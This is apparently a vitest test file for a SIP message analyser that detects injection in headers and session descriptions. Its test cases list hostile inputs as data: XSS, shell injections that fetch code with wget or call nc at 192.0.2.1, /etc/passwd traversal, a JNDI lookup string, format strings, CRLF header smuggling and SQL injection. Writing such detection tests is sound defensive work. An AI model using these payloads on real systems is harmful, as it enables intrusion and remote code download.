import { describe as group, expect, it } from 'vitest'
import { analyse, type Analysis } from '../../../src/sip/analysis.ts'
import { fixture, request } from '../fixtures.ts'

const received = (raw: Uint8Array): Analysis => analyse({ raw, direction: 'in' })
const withHeaders = (headers: Record<string, string>, start = 'REGISTER sip:h SIP/2.0'): Analysis =>
  received(request({ start, headers }))

const lines = (name: string): readonly string[] =>
  new TextDecoder()
    .decode(fixture(`sip-labelled/${name}.txt`))
    .trim()
    .split('\n')
const isInjection = (value: string): boolean => /injection/.test(withHeaders({ 'User-Agent': value }).class)

group('other injections', () => {
  it('are found with precision and recall of at least 0.98 in texts written by hand', () => {
    const missed = lines('injection-attacks').filter((line) => !isInjection(line))
    const wrong = lines('injection-harmless').filter(isInjection)
    console.log('Other injections, texts written by hand:', { missed, wrong })
    expect(missed.length).toBeLessThanOrEqual(lines('injection-attacks').length * 0.02)
    expect(wrong).toEqual([])
  })

  it('are looked for in a bounded part of what is odd in a message, so that 64 KB of it cost no more than 6', () => {
    const behind = (odd: number): string => withHeaders({ 'X-Odd': '(('.repeat(odd / 2), 'X-Last': '$(id)' }).class
    expect(behind(5000)).toBe('injection')
    expect(behind(7000)).toBe('login')
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '$(wget http://192.0.2.1/x)',
    'a; wget 192.0.2.1/x',
    'a;id',
    'a | sh',
    'a && cat /etc/hosts',
    'a;rm -rf x',
    'a|python -c x',
    'a;nc 192.0.2.1 99',
    '../../../../etc/passwd',
    '${jndi:ldap://192.0.2.1/a}',
    '%25s%25s%25s%25n',
    'x;wget${IFS}192.0.2.1/x',
    '{{7*7}}',
    'file:///etc/hosts',
    '"><svg onload=alert(1)>',
  ])('%s', (value) => expect(withHeaders({ 'User-Agent': value }).class).toBe('injection'))

  it.each([
    'Yealink SIP-T54W 96.86.0.100',
    'Linksys/SPA942-6.1.5(a)',
    'PortSIP UC Client  Android - v10.1.8',
    'A & B; (c) | d',
    'Dog & Cat Clinic',
    'Java | Python meeting',
    'R&D; sh office',
  ])('not in %s', (value) => expect(withHeaders({ 'User-Agent': value }).class).not.toMatch(/injection/))

  it('not in the list of what a phone wants kept private', () =>
    expect(withHeaders({ Privacy: 'user;id' }).class).toBe('login'))
})

group('the kind of another injection is told', () => {
  it.each([
    ['User-Agent', '<script>alert(1)</script>', 'User-Agent: a script for a browser (XSS)'],
    ['From', '"x" <sip:$(id)@h>;tag=1', 'From: a shell command'],
    ['To', '<sip:../../etc/passwd@h>', 'To: a path out of its folder'],
    ['Contact', '<sip:%25n%25n%25n%25n@h>', 'Contact: a format string'],
    ['Subject', '${jndi:ldap://192.0.2.1/a}', 'Subject: a template or look-up'],
    ['From', '<sip:x%0d%0aVia:%20y@h>;tag=1', 'From: a line break that begins a header'],
    ['From', '<sip:x%0d%0ac=IN%20IP4%20192.0.2.1@h>;tag=1', 'From: a line break that begins a line of SDP'],
  ])('%s: %s', (name, value, reason) =>
    expect(withHeaders({ [name]: value })).toMatchObject({ class: 'injection', severity: 'critical', reason }),
  )

  it('in the session description too, but not in an ordinary one', () => {
    const sdp = (session: string): Analysis => {
      const body = `v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=${session}\r\na=fmtp:101 0-15;x=1\r\n`
      const headers = { 'Content-Type': 'application/sdp' }
      return received(request({ start: 'INVITE sip:101@h SIP/2.0', headers, body }))
    }
    expect(sdp("x' or 1=1--")).toMatchObject({
      class: 'sql-injection',
      reason: expect.stringMatching(/^SDP: /) as string,
    })
    expect(sdp('`/bin/id`')).toMatchObject({ class: 'injection', reason: 'SDP: a shell command' })
    expect(sdp("Pat O'Brien")).toMatchObject({ class: 'call' })
  })
})
